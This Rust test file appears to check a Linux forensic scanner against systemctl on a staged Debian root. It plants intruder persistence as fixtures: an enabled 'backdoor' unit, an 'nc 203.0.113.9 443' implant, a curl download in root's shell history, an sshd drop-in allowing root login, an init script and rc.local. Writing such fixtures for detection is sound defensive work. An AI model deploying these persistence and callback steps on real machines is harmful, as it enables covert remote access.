//! Linux services against `systemctl --root`: a root tree holding the units of real Debian
//! packages (fetched by `apt-get download` and unpacked with `dpkg-deb -x` by the test, never
//! committed) and an intruder's additions (an enabled unit, a drop-in that changes what a
//! vendor unit runs, a mask, a template instance, a user unit, an init script, `rc.local`).
//! systemd's own `systemctl --root=TREE list-unit-files` is the oracle for every system
//! unit's state.
use crate::common::*;
use foothold::{Evidence, LinuxServiceRecord, ScanSet, ServiceFlag, ServiceKind};
use std::os::unix::fs::{symlink, PermissionsExt};
use std::path::{Path, PathBuf};

/// Real Debian packages with service units, init scripts and templates.
const PACKAGES: &[&str] = &["openssh-server", "cron", "rsyslog", "systemd"];

/// The packages' files, downloaded and unpacked once into `target/test-scratch/debs`.
fn debian_units() -> Option<PathBuf> {
    let dir = scratch().join("debs");
    let done = dir.join("unpacked");
    static ONCE: std::sync::Mutex<()> = std::sync::Mutex::new(());
    let _once = ONCE.lock().unwrap_or_else(|e| e.into_inner());
    if done.join(".complete").exists() {
        return Some(done);
    }
    std::fs::create_dir_all(&done).unwrap();
    let mut args = vec!["download", "-q"];
    args.extend(PACKAGES);
    if !need("apt-get", "Debian packages' units") || !need("dpkg-deb", "Debian packages' units") {
        return None;
    }
    let download = || {
        std::process::Command::new("apt-get")
            .args(&args)
            .current_dir(&dir)
            .output()
            .unwrap()
    };
    let mut o = download();
    if !o.status.success() {
        // A machine whose package lists were never fetched: fetch them, once.
        let _ = std::process::Command::new("apt-get")
            .args(["update", "-qq"])
            .status();
        o = download();
    }
    if !o.status.success() {
        skip(format!(
            "apt-get download {}: {}",
            PACKAGES.join(" "),
            String::from_utf8_lossy(&o.stderr)
        ));
        return None;
    }
    for d in std::fs::read_dir(&dir).unwrap() {
        let p = d.unwrap().path();
        if p.extension().is_some_and(|e| e == "deb") {
            let deb = p.to_str().unwrap();
            oracle_tool("dpkg-deb", &["-x", deb, done.to_str().unwrap()])?;
            // The package database as dpkg writes it on install: PKG.list, every path the
            // package ships (`/.`, its folders, its files).
            let name = oracle_tool("dpkg-deb", &["-f", deb, "Package"])?;
            let listing = oracle_tool("dpkg-deb", &["-c", deb])?;
            let paths: Vec<String> = listing
                .lines()
                .filter_map(|l| {
                    let path = l.split(" -> ").next()?.split_whitespace().last()?;
                    let p = path.trim_start_matches('.').trim_end_matches('/');
                    Some(if p.is_empty() {
                        "/.".to_string()
                    } else {
                        p.to_string()
                    })
                })
                .collect();
            let list = done.join(format!("var/lib/dpkg/info/{}.list", name.trim()));
            std::fs::create_dir_all(list.parent().unwrap()).unwrap();
            std::fs::write(list, paths.join("\n") + "\n").unwrap();
        }
    }
    std::fs::write(done.join(".complete"), "").unwrap();
    Some(done)
}

fn write(root: &Path, path: &str, text: &str, mode: u32) {
    let p = root.join(path.trim_start_matches('/'));
    std::fs::create_dir_all(p.parent().unwrap()).unwrap();
    std::fs::write(&p, text).unwrap();
    std::fs::set_permissions(&p, std::fs::Permissions::from_mode(mode)).unwrap();
}

fn link(root: &Path, path: &str, target: &str) {
    let p = root.join(path.trim_start_matches('/'));
    std::fs::create_dir_all(p.parent().unwrap()).unwrap();
    let _ = std::fs::remove_file(&p);
    symlink(target, p).unwrap();
}

/// The packages' files plus the intruder's, in a fresh root.
fn machine() -> Option<PathBuf> {
    let debs = debian_units()?;
    let root = scratch().join(format!("services-root-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&root);
    oracle_tool(
        "cp",
        &[
            "-a",
            &format!("{}/.", debs.display()),
            root.to_str().unwrap(),
        ],
    )?;
    let _ = std::fs::remove_file(root.join(".complete"));
    write(
        &root,
        "/etc/passwd",
        "root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\n",
        0o644,
    );
    write(
        &root,
        "/etc/os-release",
        "PRETTY_NAME=\"Debian GNU/Linux 12 (bookworm)\"\n",
        0o644,
    );
    // What the packages' maintainer scripts enable.
    link(
        &root,
        "/etc/systemd/system/multi-user.target.wants/ssh.service",
        "/lib/systemd/system/ssh.service",
    );
    link(
        &root,
        "/etc/systemd/system/multi-user.target.wants/cron.service",
        "/lib/systemd/system/cron.service",
    );
    link(
        &root,
        "/etc/systemd/system/getty.target.wants/getty@tty1.service",
        "/lib/systemd/system/getty@.service",
    );
    link(&root, "/etc/rc2.d/S01cron", "../init.d/cron");
    // A copy of the package's unit put in /etc by hand (it now takes the vendor's place).
    let cron_unit = std::fs::read_to_string(root.join("lib/systemd/system/cron.service")).ok()?;
    write(&root, "/etc/systemd/system/cron.service", &cron_unit, 0o644);
    // The intruder's.
    write(&root, "/etc/systemd/system/backdoor.service",
        "[Unit]\nDescription=Network helper\n[Service]\nType=simple\nExecStartPre=-/bin/mkdir -p /tmp/.x\nExecStart=/tmp/.x/implant --beacon 203.0.113.9\nRestart=always\n[Install]\nWantedBy=multi-user.target\n", 0o644);
    link(
        &root,
        "/etc/systemd/system/multi-user.target.wants/backdoor.service",
        "/etc/systemd/system/backdoor.service",
    );
    write(
        &root,
        "/tmp/.x/implant",
        "#!/bin/sh\nexec nc 203.0.113.9 443\n",
        0o755,
    );
    write(
        &root,
        "/etc/systemd/system/ssh.service.d/override.conf",
        "[Service]\nExecStart=\nExecStart=/usr/sbin/sshd -D -o PermitRootLogin=yes\n",
        0o644,
    );
    write(
        &root,
        "/root/.bash_history",
        "#1796132264\ncurl -so /tmp/.x/implant http://203.0.113.9/i\n#1796132270\nsystemctl enable --now backdoor\n",
        0o600,
    );
    link(&root, "/etc/systemd/system/rsyslog.service", "/dev/null");
    write(
        &root,
        "/home/alice/.config/systemd/user/agent.service",
        "[Service]\nExecStart=%h/.local/bin/agent\n[Install]\nWantedBy=default.target\n",
        0o644,
    );
    link(
        &root,
        "/home/alice/.config/systemd/user/default.target.wants/agent.service",
        "/home/alice/.config/systemd/user/agent.service",
    );
    write(&root, "/etc/init.d/legacy-backdoor",
        "#!/bin/sh\n### BEGIN INIT INFO\n# Provides: legacy-backdoor\n# Default-Start: 2 3 4 5\n# Short-Description: legacy helper\n### END INIT INFO\n/tmp/.x/implant &\n", 0o755);
    link(
        &root,
        "/etc/rc3.d/S99legacy-backdoor",
        "../init.d/legacy-backdoor",
    );
    write(
        &root,
        "/etc/rc.local",
        "#!/bin/sh -e\n/tmp/.x/implant --rc &\nexit 0\n",
        0o755,
    );
    Some(root)
}

/// `systemctl --root=ROOT list-unit-files --type=service` (with `--global`: the user units
/// every user's manager has, `/etc/systemd/user` and the vendor's): unit name → state.
fn systemctl_states(root: &Path, global: bool) -> Option<Vec<(String, String)>> {
    let out = oracle_tool(
        "systemctl",
        &[
            &format!("--root={}", root.display()),
            if global { "--global" } else { "--system" },
            "list-unit-files",
            "--type=service",
            "--no-legend",
            "--no-pager",
        ],
    )?;
    Some(
        out.lines()
            .filter_map(|l| {
                let mut w = l.split_whitespace();
                Some((w.next()?.to_string(), w.next()?.to_string()))
            })
            .collect(),
    )
}

fn by_name<'a>(r: &'a foothold::Report, name: &str) -> &'a LinuxServiceRecord {
    r.linux_services
        .iter()
        .find(|s| s.service.name == name)
        .unwrap_or_else(|| panic!("no service {name}"))
}

#[test]
fn service_states_are_what_systemctl_says() {
    let Some(root) = machine() else { return };
    let Some(theirs) = systemctl_states(&root, false) else {
        return;
    };
    let ev = Evidence::open(&root).unwrap();
    let r = ev.scan(ScanSet::none().linux_services());
    let ours: Vec<&LinuxServiceRecord> = r
        .linux_services
        .iter()
        .filter(|s| {
            s.service.kind == ServiceKind::SystemdService && s.service.scope.as_str() == "system"
        })
        .collect();
    let mut compared_states = 0;
    let mut problems = Vec::new();
    for (name, state) in &theirs {
        // Aliases and generated units are other units' names (listed under those).
        if matches!(state.as_str(), "alias" | "generated" | "transient") {
            continue;
        }
        match ours.iter().find(|s| &s.service.name == name) {
            None => problems.push(format!("{name}: missing (systemctl: {state})")),
            Some(s) => {
                let got = s
                    .service
                    .state
                    .map(|x| x.as_str().to_string())
                    .unwrap_or_default();
                if &got != state {
                    problems.push(format!("{name}: {got}, systemctl {state}"));
                }
                compared_states += 1;
            }
        }
    }
    // Every unit file foothold lists is one systemctl lists (instances are not unit files).
    for s in &ours {
        if s.service.instance.is_none() && !theirs.iter().any(|(n, _)| *n == s.service.name) {
            problems.push(format!("{}: systemctl does not list it", s.service.name));
        }
    }
    assert!(problems.is_empty(), "{problems:#?}");
    assert!(compared_states > 50, "{compared_states} units compared");
    compared("systemctl --root list-unit-files", compared_states);
    // The global user units (no home: every user's manager has them) against
    // `systemctl --global`: the same names, the same states.
    let Some(global) = systemctl_states(&root, true) else {
        return;
    };
    let mut ours_global: Vec<(String, String)> = r
        .linux_services
        .iter()
        .filter(|s| {
            s.service.kind == ServiceKind::SystemdService
                && s.service.scope.as_str() == "user"
                && s.service.user.is_none()
                && s.service.instance.is_none()
        })
        .map(|s| {
            (
                s.service.name.clone(),
                s.service
                    .state
                    .map(|x| x.as_str().to_string())
                    .unwrap_or_default(),
            )
        })
        .collect();
    ours_global.sort();
    let mut theirs_global: Vec<(String, String)> = global
        .into_iter()
        .filter(|(_, st)| !matches!(st.as_str(), "alias" | "generated" | "transient"))
        .collect();
    theirs_global.sort();
    assert!(
        !theirs_global.is_empty(),
        "the systemd package ships user units"
    );
    assert_eq!(ours_global, theirs_global);
    compared(
        "systemctl --global --root list-unit-files",
        theirs_global.len(),
    );

    // What the intruder did, as the records say it.
    let b = by_name(&r, "backdoor.service");
    assert_eq!((b.service.enabled, b.service.vendor), (Some(true), false));
    assert_eq!(
        b.service.exec[1].command,
        "/tmp/.x/implant --beacon 203.0.113.9"
    );
    assert_eq!(
        b.service.exec[0].prefixes,
        [foothold::ExecPrefix::IgnoreFailure]
    );
    let found: Vec<_> = b
        .runs
        .iter()
        .flat_map(|x| &x.binaries)
        .filter_map(|x| x.path.as_deref())
        .collect();
    assert!(found.contains(&"/tmp/.x/implant"), "{found:?}");
    // Who enabled it: root's shell history, with its time.
    let by = b.created_by.as_ref().unwrap();
    assert_eq!(by.user.as_deref(), Some("root"));
    assert_eq!(by.when.unwrap().to_string(), "2026-12-01T13:37:50Z");
    assert_eq!(by.evidence[0].kind, "systemctl_enable");
    let ssh = by_name(&r, "ssh.service");
    assert!(ssh
        .service
        .flags
        .contains(&ServiceFlag::ExecChangedByDropIn));
    assert_eq!(
        ssh.service
            .exec
            .iter()
            .filter(|e| e.setting == "ExecStart")
            .count(),
        1
    );
    assert!(ssh.service.vendor);
    assert!(by_name(&r, "rsyslog.service").service.masked);
    let tty = by_name(&r, "getty@tty1.service");
    assert_eq!(
        (tty.service.instance.as_deref(), tty.service.enabled),
        (Some("tty1"), Some(true))
    );
    let agent = by_name(&r, "agent.service");
    assert_eq!(
        (agent.service.user.as_deref(), agent.service.enabled),
        (Some("alice"), Some(true))
    );
    assert_eq!(
        agent.source.path,
        "/home/alice/.config/systemd/user/agent.service"
    );
    let legacy = by_name(&r, "legacy-backdoor");
    assert_eq!(
        (legacy.service.kind, legacy.service.enabled),
        (ServiceKind::SysvInit, Some(true))
    );
    assert_eq!(legacy.service.runlevels, ["3"]);
    let cron = by_name(&r, "cron");
    assert!(cron
        .service
        .flags
        .contains(&ServiceFlag::ShadowedBySystemdUnit));
    // Who ships what: the packages' units and scripts are theirs, the intruder's no one's.
    assert_eq!(cron.service.package.as_deref(), Some("cron"));
    assert_eq!(ssh.service.package.as_deref(), Some("openssh-server"));
    for name in ["backdoor.service", "legacy-backdoor", "rc.local"] {
        let s = by_name(&r, name);
        assert!(
            s.service.package.is_none() && s.service.flags.contains(&ServiceFlag::NotFromAPackage),
            "{name}"
        );
    }
    // The unpackaged init script's lines are read: what it starts is found.
    let runs: Vec<_> = legacy
        .runs
        .iter()
        .flat_map(|x| &x.binaries)
        .filter_map(|b| b.path.as_deref())
        .collect();
    assert!(runs.contains(&"/tmp/.x/implant"), "{runs:?}");
    let rc = by_name(&r, "rc.local");
    assert_eq!(
        (rc.service.kind, rc.service.enabled),
        (ServiceKind::RcLocal, Some(true))
    );
    assert_eq!(rc.service.exec[1].command, "/tmp/.x/implant --rc &");

    // Findings: the rules that speak for the intruder's items, and those items above the
    // packages'.
    assert_rules(
        &r,
        "backdoor.service",
        &["enabled_local_service", "not_from_a_package", "hidden_path"],
    );
    assert_rules(&r, "ssh.service", &["exec_changed_by_drop_in"]);
    assert_rules(&r, "cron.service", &["overrides_vendor_unit"]);
    let findings = r.findings();
    let score = |name: &str| {
        findings
            .iter()
            .find(|f| f.0.subject.name == name)
            .map(|f| f.0.score)
            .unwrap_or_else(|| panic!("no finding for {name}"))
    };
    let vendor_max = r
        .linux_services
        .iter()
        .filter(|s| {
            s.service.vendor && !s.service.flags.contains(&ServiceFlag::ExecChangedByDropIn)
        })
        .map(|s| score(&s.service.name))
        .max()
        .unwrap();
    for name in [
        "backdoor.service",
        "ssh.service",
        "legacy-backdoor",
        "rc.local",
    ] {
        assert!(
            score(name) > vendor_max,
            "{name}: {} <= {vendor_max}",
            score(name)
        );
    }
    let _ = std::fs::remove_dir_all(&root);
}
